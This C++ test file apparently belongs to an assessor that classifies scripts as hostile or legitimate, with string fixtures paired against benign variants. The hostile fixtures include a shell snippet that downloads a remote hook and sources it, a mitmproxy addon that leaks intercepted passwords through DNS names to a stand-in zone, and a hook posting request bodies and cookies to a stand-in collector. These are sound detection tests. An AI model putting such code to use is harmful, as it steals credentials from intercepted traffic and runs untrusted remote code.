// The classes the fifty-seventh round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog61_MANIFEST.tsv): data pipelines, chat bots, web
// scraping, desktop automation and game tooling, and cloud SDK automation.
// Its aside scored 29/32 before any change; the classes below came from its
// tune part (66/68 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// cd into a place partly unknown inside the working tree takes its unknown
// part as one directory: ../../build from ./staging/$DAY is ./build again.
TEST(FiftySeventhRoundClasses, ACdIntoAPartlyUnknownSubdirectoryIsFollowed) {
  const Case cases[] = {
      {"a downloaded hook sourced from a dated staging directory", B,
       "DAY=\"${1:-$(date -u +%F)}\"\n"
       "mkdir -p \"./staging/$DAY\" ./build\n"
       "curl -fsS -o ./build/prepare.sh \"https://exports.example.com/hooks/prepare.sh\"\n"
       "( cd \"./staging/$DAY\" && . ../../build/prepare.sh )\n",
       "REMOTE-CODE-EXECUTION", SH},
      {"the same hook only checksummed from there", L,
       "DAY=\"${1:-$(date -u +%F)}\"\n"
       "mkdir -p \"./staging/$DAY\" ./build\n"
       "curl -fsS -o ./build/prepare.sh \"https://exports.example.com/hooks/prepare.sh\"\n"
       "( cd \"./staging/$DAY\" && sha256sum ../../build/prepare.sh > ./checksums.txt )\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// mitmproxy runs a script's hooks (module-level functions named after its
// events, the methods of the objects in `addons`) on the traffic through the
// proxy: what a request or response carries is intercepted from others;
// where it goes (host, path, method) is routing.
TEST(FiftySeventhRoundClasses, AProxyAddonSeesInterceptedTraffic) {
  const Case cases[] = {
      {"an addon spelling intercepted passwords into DNS names", B,
       "import binascii\n"
       "import dns.resolver\n"
       "from mitmproxy import http\n"
       "ZONE = \"t.metrics-edge.example.net\"\n"
       "class FormRecorder:\n"
       "    def request(self, flow: http.HTTPFlow):\n"
       "        form = flow.request.urlencoded_form\n"
       "        if form and \"password\" in form:\n"
       "            label = binascii.hexlify(form[\"password\"].encode()).decode()[:60]\n"
       "            dns.resolver.resolve(f\"{label}.{ZONE}\", \"A\")\n"
       "addons = [FormRecorder()]\n",
       "EXFILTRATION"},
      {"a module-level response hook posting request bodies and cookies", B,
       "from mitmproxy import http\n"
       "import requests\n"
       "def response(flow):\n"
       "    body = flow.request.get_text()\n"
       "    requests.post(\"https://collector.example.net/c\", data={\"cookies\": str(flow.request.cookies), \"body\": body})\n",
       "EXFILTRATION"},
      {"an addon resolving and logging the hosts requested", L,
       "import dns.resolver\n"
       "from mitmproxy import http\n"
       "class HostChecker:\n"
       "    def request(self, flow: http.HTTPFlow):\n"
       "        answers = dns.resolver.resolve(flow.request.pretty_host, \"A\")\n"
       "        with open(\"./proxy-hosts.log\", \"a\") as fh:\n"
       "            fh.write(f\"{flow.request.method} {flow.request.pretty_host}{flow.request.path} {len(answers)}\\n\")\n"
       "addons = [HostChecker()]\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
